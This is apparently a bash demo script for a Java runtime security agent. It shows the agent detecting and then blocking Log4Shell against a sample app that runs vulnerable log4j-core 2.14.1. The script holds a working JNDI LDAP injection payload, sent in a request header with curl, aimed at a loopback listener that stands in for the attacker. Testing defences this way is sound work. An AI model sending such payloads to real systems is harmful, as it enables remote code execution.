#!/usr/bin/env bash
# metrics-agent runtime guard: Log4Shell against an app using log4j-core 2.14.1 that logs a request header, first with
# guard=detect (the event, with its route; the "attacker" listener sees the connection), then with guard=block (the
# lookup throws before any connection, the app keeps answering). The app is the agent's guard sample
# (metrics-agent/src/it/samples/guard), compiled against the jars the build copied to metrics-agent/target/it-lib.
set -euo pipefail
cd "${VIGIL_HOME:-$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)}"

AGENT=metrics-agent/target/metrics-agent.jar
LIBS=metrics-agent/target/it-lib
for f in "$AGENT" "$LIBS/jetty12" "$LIBS/guard"; do
  [[ -e "$f" ]] || { echo "guard demo: $f missing; run ./mvnw -q -pl metrics-agent -am verify -Dit.test=GuardIT" >&2; exit 1; }
done
WORK="$(mktemp -d)"
PIDS=()
cleanup() {
  for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; wait "$p" 2>/dev/null || true; done
  rm -rf "$WORK"
}
trap cleanup EXIT
free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }

# the attacker's LDAP port, on loopback: it only counts connections
TRAP_PORT="$(free_port)"
python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen()
n = 0
while True:
    c, _ = s.accept(); n += 1; open(sys.argv[2], "w").write(str(n)); c.close()
' "$TRAP_PORT" "$WORK/connections" &
PIDS+=($!)
javac -nowarn -d "$WORK/classes" -cp "$LIBS/jetty12/*:$LIBS/guard/*" metrics-agent/src/it/samples/guard/GuardApp.java

for mode in detect block; do
  APP_PORT="$(free_port)"
  rm -f "$WORK/connections"
  echo "\$ java -javaagent:$AGENT=guard=$mode,port=0 -cp ... GuardApp   # log4j-core 2.14.1 logs X-Api-Version"
  java -javaagent:"$AGENT"=guard=$mode,port=0,portFile="$WORK/metrics.$mode" -Xmx128m \
    -cp "$WORK/classes:$LIBS/jetty12/*:$LIBS/guard/*" GuardApp "$APP_PORT" >"$WORK/app.$mode.log" 2>&1 &
  APP_PID=$!
  PIDS+=("$APP_PID")
  for _ in $(seq 150); do grep -q LISTENING "$WORK/app.$mode.log" && [[ -s "$WORK/metrics.$mode" ]] && break; sleep 0.1; done
  grep -q LISTENING "$WORK/app.$mode.log" || { echo "guard demo: app did not start"; cat "$WORK/app.$mode.log"; exit 1; }
  payload="\${jndi:ldap://127.0.0.1:$TRAP_PORT/o=exploit}"
  code="$(curl -s -o /dev/null -w '%{http_code}' -H "X-Api-Version: $payload" "http://127.0.0.1:$APP_PORT/hello")"
  echo "GET /hello with X-Api-Version: $payload -> $code"
  for _ in $(seq 50); do grep -q '"rule":"jndi-remote-lookup"' "$WORK/app.$mode.log" && break; sleep 0.1; done
  event="$(grep '"rule":"jndi-remote-lookup"' "$WORK/app.$mode.log" | head -1)"
  [[ -n "$event" ]] || { echo "guard demo: no event"; cat "$WORK/app.$mode.log"; exit 1; }
  echo "event: $event" | cut -c1-400
  sleep 0.5
  echo "connections the attacker's LDAP port saw: $(cat "$WORK/connections" 2>/dev/null || echo 0)"
  curl -fsS "http://127.0.0.1:$(cat "$WORK/metrics.$mode")/metrics" | grep '^vigil_guard_events_total'
  if [[ $mode == block ]]; then
    [[ ! -s "$WORK/connections" ]] || { echo "guard demo: block mode let a connection through"; exit 1; }
    echo "GET /ordinary -> $(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$APP_PORT/ordinary") (the app keeps serving)"
  fi
  kill "$APP_PID"; wait "$APP_PID" 2>/dev/null || true
done
